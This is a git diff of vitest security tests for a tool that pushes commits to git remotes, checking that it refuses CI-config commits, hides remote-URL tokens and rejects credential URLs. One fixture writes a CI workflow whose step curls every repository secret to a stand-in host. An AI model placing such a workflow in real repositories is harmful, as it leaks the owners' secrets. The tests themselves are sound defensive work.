@@ -10,7 +10,8 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { execa, type ResultPromise } from 'execa';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
-import { pushSchema } from '../../src/config/deliver.js';
+import { ConfigError } from '../../src/common/errors.js';
+import { pushSchema, withPushRemote } from '../../src/config/deliver.js';
 import { PushError, pushRun, type PushRequest, userCredentialConfig } from '../../src/deliver/push.js';
 
 const dirs: string[] = [];
@@ -155,6 +156,32 @@ describe('push over file:// to a real bare repository', () => {
     expect(error.message).toMatch(/base branch/);
     // `first` is a fast-forward of main: without the refusal git itself would have taken it.
     expect(await remoteTip(bare, 'main')).toBe(main);
+  });
+
+  it('attack: a commit that adds or changes CI config (a workflow that would run with the repository\'s secrets) is not pushed', async () => {
+    const { repo, bare, state } = await setup();
+    const commitOn = async (file: string): Promise<string> => {
+      await sh(repo, 'checkout', '-q', 'loopbox/fix');
+      await mkdir(path.dirname(path.join(repo, file)), { recursive: true });
+      await writeFile(path.join(repo, file), 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: "curl -d @- https://example.invalid <<< ${{ toJSON(secrets) }}" } ] } }\n');
+      await sh(repo, 'add', '-A');
+      await sh(repo, 'commit', '-q', '-m', `add ${file}`);
+      const sha = await sh(repo, 'rev-parse', 'HEAD');
+      await sh(repo, 'checkout', '-q', 'main');
+      return sha;
+    };
+    for (const file of ['.github/workflows/ci.yml', '.gitlab-ci.yml', '.circleci/config.yml']) {
+      const sha = await commitOn(file);
+      const error = await pushError(pushRun(request(repo, state, { verifiedCommit: sha })));
+      expect(error.kind, file).toBe('refused');
+      expect(error.message).toContain(file);
+      expect(await remoteTip(bare, 'loopbox/fix')).toBeNull();
+      // Unverified work (wip) is held to the same rule.
+      const wip = await pushError(pushRun(request(repo, state, { endState: 'capped', lastCommit: sha, push: { unverified: 'wip' } })));
+      expect(wip.kind).toBe('refused');
+      expect(await remoteTip(bare, 'loopbox/fix-wip')).toBeNull();
+      await sh(repo, 'branch', '-f', 'loopbox/fix', `${sha}~1`);
+    }
   });
 
   it('attack: hooks and hook config planted in the repository do not run on push', async () => {
@@ -330,5 +357,51 @@ describe('push over http:// to `git http-backend` behind Basic auth, with the us
     } finally {
       await srv.close();
     }
+  });
+
+  it('attack: a token in the remote URL (origin = http://user:token@…) never reaches the outcome, an error or the ledger', async () => {
+    const { repo, bare, state, first } = await setup();
+    const srv = await httpGit(path.dirname(bare), 'loopbox-user', 'tok3n-s3cret');
+    try {
+      const home = await tempDir('home');
+      const withCreds = (pw: string): string => `${srv.url.replace('http://', `http://loopbox-user:${pw}@`)}/remote.git`;
+      await sh(repo, 'remote', 'set-url', 'origin', withCreds('tok3n-s3cret'));
+      await withHome(home, async () => {
+        const out = await pushRun(request(repo, state, { verifiedCommit: first }));
+        expect(out).toMatchObject({ status: 'pushed', url: `${srv.url}/remote.git` });
+        expect(JSON.stringify(out)).not.toContain('tok3n-s3cret');
+        // The same remote with a wrong token: the error (delivery.json, notify body, digest) names the URL without it.
+        await sh(repo, 'remote', 'set-url', 'origin', withCreds('wr0ng-s3cret'));
+        const error = await pushError(pushRun(request(repo, state, { verifiedCommit: first, push: { branch: 'loopbox/other' } })));
+        expect(error.kind).toBe('auth');
+        expect(error.message).toContain(`${srv.url}/remote.git`);
+        expect(`${error.message}\n${error.hint ?? ''}`).not.toContain('wr0ng-s3cret');
+      });
+      expect(await remoteTip(bare, 'loopbox/fix')).toBe(first);
+      expect(await readFile(path.join(state, 'pushes.json'), 'utf8')).not.toContain('tok3n-s3cret');
+    } finally {
+      await srv.close();
+    }
+  });
+
+  it('attack: a URL with credentials as loop.push.remote (or --push) is refused by the config, like notify.webhook', () => {
+    for (const remote of ['https://x-access-token:ghp_secret@github.com/o/r.git', 'https://ghp_secret@github.com/o/r.git', 'ssh://git:pw@example.invalid/r.git']) {
+      const parsed = pushSchema.safeParse({ remote });
+      expect(parsed.success, remote).toBe(false);
+      expect(JSON.stringify(parsed.error?.issues)).toMatch(/credential/);
+    }
+    for (const remote of ['ssh://git@example.invalid/o/r.git', 'git@example.invalid:o/r.git', 'https://example.invalid/o/r.git', 'origin']) expect(pushSchema.safeParse({ remote }).success, remote).toBe(true);
+    // `run --push URL`: a clear config error (exit code 2) that names the key, not a raw validation dump.
+    const error = (() => {
+      try {
+        withPushRemote(undefined, 'https://x-access-token:ghp_secret@github.com/o/r.git');
+      } catch (e) {
+        return e;
+      }
+      return undefined;
+    })();
+    expect(error).toBeInstanceOf(ConfigError);
+    expect((error as ConfigError).message).toMatch(/loop\.push\.remote: expected a URL without credentials/);
+    expect((error as ConfigError).exitCode).toBe(2);
   });
 });
